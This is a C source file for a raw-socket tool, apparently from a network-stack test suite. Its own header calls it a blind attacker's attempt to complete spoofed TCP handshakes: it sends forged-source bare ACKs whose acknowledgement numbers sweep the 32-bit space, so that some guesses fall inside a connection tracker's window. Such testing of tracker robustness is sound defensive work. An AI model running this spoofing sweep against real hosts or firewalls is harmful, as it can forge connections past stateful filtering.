// SPDX-License-Identifier: GPL-2.0
/*
 * ack_sweep: a blind attacker's attempt to complete spoofed TCP handshakes.
 * For each of the source ports given, bare ACKs with sequence number SEQ
 * and acknowledgement numbers START, START - STEP, START - 2 * STEP, ...,
 * COUNT of them per port (ports interleaved), from SRC to DST:DPORT, as
 * fast as one AF_PACKET socket sends them, bounded by COUNT and SECONDS.
 *
 *   ack_sweep IFNAME DST-MAC SRC DST DPORT SEQ START STEP COUNT SECONDS SPORT...
 *
 * IPv4 only.  With STEP no wider than the tracker's ACK window and COUNT *
 * STEP >= 2^32, one guess per port falls in any window of that width.
 * Prints "sent N in S s (R pkt/s)"; exits 0 when all went out, 3 when
 * SECONDS ran out first, 1 on an error.  Scapy sends about a thousand
 * packets a second under emulation: a sweep is some 65 000 per port.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "pktlib.h"

#define BATCH SEND_BATCH_MAX
#define MAX_PORTS 16

int main(int argc, char **argv)
{
	struct frame frames[BATCH];
	struct sockaddr_ll sll;
	struct in_addr src4, dst4;
	uint16_t sports[MAX_PORTS], dport;
	unsigned long count, total, sent = 0;
	uint32_t seq, start_ack, step;
	uint8_t smac[6], dmac[6];
	double start, limit, now;
	unsigned int nports, i;
	int fd;

	if (argc < 12 || argc - 11 > MAX_PORTS) {
		fprintf(stderr, "usage: ack_sweep IFNAME DST-MAC SRC DST DPORT SEQ START STEP COUNT SECONDS SPORT...\n");
		return 1;
	}
	if (inet_pton(AF_INET, argv[3], &src4) != 1 ||
	    inet_pton(AF_INET, argv[4], &dst4) != 1) {
		fprintf(stderr, "ack_sweep: bad address\n");
		return 1;
	}
	if (parse_mac(argv[2], dmac)) {
		fprintf(stderr, "ack_sweep: bad MAC %s\n", argv[2]);
		return 1;
	}
	dport = (uint16_t)atoi(argv[5]);
	seq = (uint32_t)strtoul(argv[6], NULL, 0);
	start_ack = (uint32_t)strtoul(argv[7], NULL, 0);
	step = (uint32_t)strtoul(argv[8], NULL, 0);
	count = strtoul(argv[9], NULL, 0);
	limit = atof(argv[10]);
	nports = (unsigned int)(argc - 11);
	for (i = 0; i < nports; i++)
		sports[i] = (uint16_t)atoi(argv[11 + i]);
	total = count * nports;

	fd = packet_socket(argv[1], &sll, smac);
	if (fd < 0)
		return 1;

	start = now_s();
	while (sent < total) {
		unsigned int n = 0;

		for (; n < BATCH && sent + n < total; n++) {
			unsigned long k = sent + n;
			struct frame *f = &frames[n];
			struct tcp_spec t = {
				.sport = sports[k % nports], .dport = dport,
				.flags = TH_ACK, .seq = seq,
				.ack = start_ack - (uint32_t)(k / nports) * step,
				.win = 64240, .doff = 5,
			};

			f->len = build_tcp4(f->buf, smac, dmac, src4, dst4, &t);
		}
		if (send_frames(fd, frames, n, "ack_sweep"))
			return 1;
		sent += n;
		now = now_s();
		if (now - start > limit)
			break;
	}
	now = now_s() - start;
	printf("sent %lu in %.1f s (%.0f pkt/s)\n", sent, now,
	       now > 0 ? sent / now : 0.0);
	close(fd);
	return sent == total ? 0 : 3;
}
